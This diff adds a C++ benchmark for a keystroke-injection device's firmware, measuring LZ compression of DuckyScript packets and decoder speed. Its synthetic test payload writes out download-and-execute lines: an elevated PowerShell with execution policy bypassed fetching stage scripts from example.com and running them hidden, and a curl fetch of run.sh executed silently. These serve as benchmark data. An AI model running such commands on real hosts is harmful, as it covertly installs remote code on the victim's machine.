@@ -0,0 +1,389 @@
+/*!
+    \file host/bench/lz_bench.cpp
+    \brief Bytes the text of compiled lines takes with and without OP_LZ, and what decoding it costs
+    \copyright MIT License
+
+    Compiles every line of a script with esp_duck's compiler twice, the way
+    duckscript sends them: once without a window, so no text is compressed,
+    and once with the window the ATmega announces. The second set is then
+    run with duckparser::exec() as well, and has to type what the first
+    does, report by report. For the time decode() takes, the packets are
+    replayed through the ATmega's decompressor alone the way exec() feeds
+    it: text that came as it is kept, OP_LZ text decoded.
+
+    Reported per payload, host CPU time is the fastest of all rounds:
+      - text        packets with STRING text or keys in them
+      - lz          those of them that went out compressed
+      - plain B     bytes of all packets without compression
+      - lz B        bytes of all packets with it, and the share left
+      - ns/packet   decode() per OP_LZ packet, append() of the text
+                    between them included
+      - ns/byte     the same per byte of text it decoded
+      - check       ok if both sets type the same, FAIL otherwise
+
+    On the ATmega decode() runs once per packet, so the host time only
+    shows how it compares with the rest of exec() in parse_bench.
+
+    Usage: lz_bench [--reps N] [--window N] [script ...]
+    The built-in payloads always run, scripts given as arguments first.
+    The window is at most the ATmega's LZ_WINDOW, the default.
+ */
+
+#include "bench.h"
+
+#include "../../atmega_duck/include/config.h"
+#include "../../atmega_duck/src/duckparser/bytecode.h"
+#include "../../atmega_duck/src/duckparser/decompressor.h"
+#include "../../atmega_duck/src/hid/keyboard.h"
+#include "../../atmega_duck/src/locale/locale.h"
+
+#include "../../esp_duck/compiler.h"
+
+namespace bench {
+    // ========== PRIVATE ========== //
+
+    /*! OP_LZ packets decoded per round */
+    #define ROUND_PACKETS 50000UL
+
+    /**
+     * @brief What a payload usually types: a PowerShell stager and a shell one-liner per host
+     */
+    std::string synthetic_payload() {
+        std::string s = "DEFAULT_DELAY 0\nLOCALE US\n";
+
+        for (int i = 0; i < 20; ++i) {
+            s += "GUI r\n";
+            s += "STRINGLN powershell -NoProfile -ExecutionPolicy Bypass -Command \"Start-Process powershell -Verb RunAs\"\n";
+            s += "LSTRING_BEGIN\n";
+            s += "$url = \"https://example.com/stage" + std::to_string(i) + ".ps1\"\n";
+            s += "Invoke-WebRequest -Uri $url -OutFile $env:TEMP\\stage.ps1\n";
+            s += "Invoke-WebRequest -Uri $url.Replace(\"ps1\", \"txt\") -OutFile $env:TEMP\\stage.txt\n";
+            s += "Get-Content $env:TEMP\\stage.txt | Out-File $env:TEMP\\log.txt -Append\n";
+            s += "Start-Process powershell -ArgumentList \"-File $env:TEMP\\stage.ps1\" -WindowStyle Hidden\n";
+            s += "LSTRING_END\n";
+            s += "STRINGLN curl -fsSL http://example.com/run.sh -o /tmp/run.sh > /dev/null 2>&1; chmod +x /tmp/run.sh\n";
+            s += "STRINGLN sudo apt-get install -y curl > /dev/null 2>&1; /tmp/run.sh > /dev/null 2>&1 &\n";
+        }
+
+        return s;
+    }
+
+    /**
+     * @brief Text of one byte between lines that refer back to each other
+     *
+     * A line too short to compress still goes into the window on both
+     * boards, the ones after it refer back across it.
+     */
+    std::string short_payload() {
+        static const char* words[] = { "abc", "abcxyz", "hello", "world", "foo", "barfoo", "x", "q" };
+
+        std::string s = "DEFAULT_DELAY 0\nLOCALE US\n";
+
+        for (int i = 0; i < 60; ++i) {
+            if (i % 3 == 0) {
+                s += "STRING " + std::string(1, 'a' + (i * 7) % 26) + "\n";
+                continue;
+            }
+
+            s += "STRING";
+
+            for (int k = 0; k < 2 + i % 5; ++k) s += std::string(" ") + words[(i * 5 + k * 3) % 8];
+
+            s += "\n";
+        }
+
+        return s;
+    }
+
+    /**
+     * @brief Splits a script into the packets the ESP would send
+     *
+     * One line per packet, longer lines are cut into BUFFER_SIZE - 1 byte
+     * pieces on a character boundary, like duckscript does.
+     */
+    std::vector<std::string> packets(const std::string& script) {
+        std::vector<std::string> res;
+
+        size_t i = 0;
+
+        while (i < script.size()) {
+            size_t end = script.find('\n', i);
+
+            end = (end == std::string::npos) ? script.size() : end + 1;
+
+            while (i < end) {
+                size_t n = end - i;
+
+                if (n > BUFFER_SIZE - 1) {
+                    n = BUFFER_SIZE - 1;
+
+                    while (n > 0 && ((uint8_t)script[i + n] & 0xC0) == 0x80) --n;
+                }
+
+                res.push_back(script.substr(i, n));
+                i += n;
+            }
+        }
+
+        return res;
+    }
+
+    /**
+     * @brief The packets with every line compiled, in the order duckscript sends them
+     *
+     * @param window Earlier text compressed lines may refer to, 0 for none
+     */
+    std::vector<std::string> compile(const std::vector<std::string>& p, size_t window) {
+        std::vector<std::string> res;
+        uint8_t out[BUFFER_SIZE];
+
+        compiler::reset(window);
+
+        for (const std::string& line : p) {
+            size_t len = compiler::compile(line.data(), line.size(), out);
+
+            if (len) res.push_back(std::string((const char*)out, len));
+            else res.push_back(line);
+        }
+
+        return res;
+    }
+
+    size_t bytes(const std::vector<std::string>& p) {
+        size_t n = 0;
+
+        for (const std::string& line : p) n += line.size();
+        return n;
+    }
+
+    /**
+     * @brief Where the text op of a compiled packet is, 0 if it has none
+     *
+     * Text and keys are always the rest of the packet, only OP_MODE and
+     * its bits can come before them.
+     */
+    size_t text_at(const std::string& packet) {
+        if ((packet.size() < 2) || ((uint8_t)packet[0] != CMD_BYTECODE)) return 0;
+
+        size_t i = ((uint8_t)packet[1] == OP_MODE) ? 3 : 1;
+
+        if (i >= packet.size()) return 0;
+
+        uint8_t op = packet[i];
+
+        if ((op == OP_LZ) || ((op >= OP_TEXT) && (op <= OP_KEYS_PART))) return i;
+
+        return 0;
+    }
+
+    typedef struct lz_result_t {
+        size_t lines;   // !< Packets per pass over the script
+        size_t text;    // !< Packets with text or keys
+        size_t lz;      // !< Packets with OP_LZ
+        size_t plain;   // !< Bytes of the packets without compression
+        size_t packed;  // !< Bytes of the packets with it
+        size_t decoded; // !< Bytes of text the OP_LZ packets decode to
+        double ns;      // !< Host CPU time per decode()
+        bool   ok;      // !< Both sets type the same
+    } lz_result_t;
+
+    /**
+     * @brief Feeds the OP_LZ packets and the text before them to the decompressor, one pass
+     *
+     * The text that came as it is is kept like duckparser::exec() does.
+     *
+     * @return Bytes of text the OP_LZ packets decoded to
+     */
+    size_t replay(const std::vector<std::string>& p) {
+        size_t res = 0;
+
+        decompressor::reset();
+
+        for (const std::string& packet : p) {
+            size_t i = text_at(packet);
+
+            if (i == 0) continue;
+
+            const uint8_t* code = (const uint8_t*)packet.data() + i + 1;
+            size_t len          = packet.size() - i - 1;
+
+            if ((uint8_t)packet[i] != OP_LZ) {
+                decompressor::append(code, len);
+                continue;
+            }
+
+            size_t n;
+
+            decompressor::decode(code + 1, len - 1, &n);
+            res += n;
+        }
+
+        return res;
+    }
+
+    /**
+     * @brief Every report the packets make the ATmega send, like atmega_duck.ino runs them
+     */
+    std::vector<host::hid_record> type(const std::vector<std::string>& p) {
+        char buffer[BUFFER_SIZE + 1];
+
+        duckparser::reset();
+        keyboard::setLocale(locale::get_default());
+        host::hid_clear();
+
+        for (const std::string& line : p) {
+            memcpy(buffer, line.data(), line.size());
+            buffer[line.size()] = '\0';
+
+            if (buffer[0] == CMD_BYTECODE) duckparser::exec((const uint8_t*)buffer + 1, line.size() - 1);
+            else duckparser::parse(buffer, line.size());
+        }
+
+        return host::hid_trace();
+    }
+
+    /**
+     * @brief True if both sets of packets type the same, report by report
+     */
+    bool same(const std::vector<std::string>& a, const std::vector<std::string>& b) {
+        std::vector<host::hid_record> ta = type(a);
+        std::vector<host::hid_record> tb = type(b);
+
+        if (ta.size() != tb.size()) return false;
+
+        for (size_t i = 0; i < ta.size(); ++i) {
+            if ((ta[i].id != tb[i].id) || (ta[i].len != tb[i].len) ||
+                (memcmp(ta[i].data, tb[i].data, ta[i].len) != 0)) return false;
+        }
+
+        return true;
+    }
+
+    lz_result_t run(const std::string& script, size_t window, unsigned int reps) {
+        std::vector<std::string> p = packets(script);
+        lz_result_t res;
+
+        std::vector<std::string> plain = compile(p, 0);
+        std::vector<std::string> lz    = compile(p, window);
+
+        res.lines   = p.size();
+        res.text    = 0;
+        res.lz      = 0;
+        res.plain   = bytes(plain);
+        res.packed  = bytes(lz);
+        res.decoded = 0;
+        res.ns      = 0;
+
+        for (const std::string& packet : lz) {
+            size_t i = text_at(packet);
+
+            if (i == 0) continue;
+
+            ++res.text;
+
+            if ((uint8_t)packet[i] == OP_LZ) ++res.lz;
+        }
+
+        res.ok = same(plain, lz);
+
+        if (res.lz == 0) return res;
+
+        res.decoded = replay(lz);
+
+        for (unsigned int r = 0; r < reps; ++r) {
+            size_t decoded = 0;
+
+            double start = cpu_now_us();
+
+            while (decoded < ROUND_PACKETS) {
+                replay(lz);
+                decoded += res.lz;
+            }
+
+            double ns = (cpu_now_us() - start) * 1e3 / decoded;
+
+            if ((r == 0) || (ns < res.ns)) res.ns = ns;
+        }
+
+        return res;
+    }
+
+    void print_header() {
+        printf("%-16s %8s %8s %8s %9s %9s %7s %11s %8s %6s\n",
+               "payload", "lines", "text", "lz", "plain B", "lz B", "left", "ns/packet", "ns/byte", "check");
+    }
+
+    void print_result(const char* name, const lz_result_t& r) {
+        printf("%-16s %8zu %8zu %8zu %9zu %9zu %6.1f%% %11.1f %8.2f %6s\n",
+               name, r.lines, r.text, r.lz, r.plain, r.packed,
+               r.plain ? 100.0 * r.packed / r.plain : 0.0,
+               r.ns, r.decoded ? r.ns * r.lz / r.decoded : 0.0, r.ok ? "ok" : "FAIL");
+    }
+}
+
+int main(int argc, char** argv) {
+    unsigned int reps = 5;
+    size_t window     = LZ_WINDOW;
+
+    std::vector<const char*> scripts;
+
+    for (int i = 1; i < argc; ++i) {
+        if ((strcmp(argv[i], "--reps") == 0) && (i + 1 < argc)) reps = atoi(argv[++i]);
+        else if ((strcmp(argv[i], "--window") == 0) && (i + 1 < argc)) window = atoi(argv[++i]);
+        else if (argv[i][0] == '-') {
+            fprintf(stderr, "usage: %s [--reps N] [--window N] [script ...]\n", argv[0]);
+            return 2;
+        } else scripts.push_back(argv[i]);
+    }
+
+    if (reps == 0) reps = 1;
+
+    if (window > LZ_WINDOW) {
+        fprintf(stderr, "the ATmega keeps %d bytes, window %zu is too large\n", LZ_WINDOW, window);
+        return 2;
+    }
+
+    keyboard::begin();
+
+    // The USB host reads every report at once, nothing here waits for it
+    host::hid_poll_us(1);
+
+    printf("window %zu bytes\n", window);
+
+    bench::print_header();
+
+    bool ok = true;
+
+    for (const char* path : scripts) {
+        std::string script;
+
+        if (!bench::load(path, &script)) {
+            fprintf(stderr, "can't read %s\n", path);
+            return 1;
+        }
+
+        bench::lz_result_t r = bench::run(script, window, reps);
+
+        bench::print_result(bench::basename(path), r);
+        ok = ok && r.ok;
+    }
+
+    for (const bench::payload_t& p : bench::synthetic) {
+        bench::lz_result_t r = bench::run(p.make(), window, reps);
+
+        bench::print_result(p.name, r);
+        ok = ok && r.ok;
+    }
+
+    bench::lz_result_t r = bench::run(bench::synthetic_payload(), window, reps);
+
+    bench::print_result("payload_us", r);
+    ok = ok && r.ok;
+
+    r = bench::run(bench::short_payload(), window, reps);
+
+    bench::print_result("short_lines", r);
+    ok = ok && r.ok;
+
+    return ok ? 0 : 1;
+}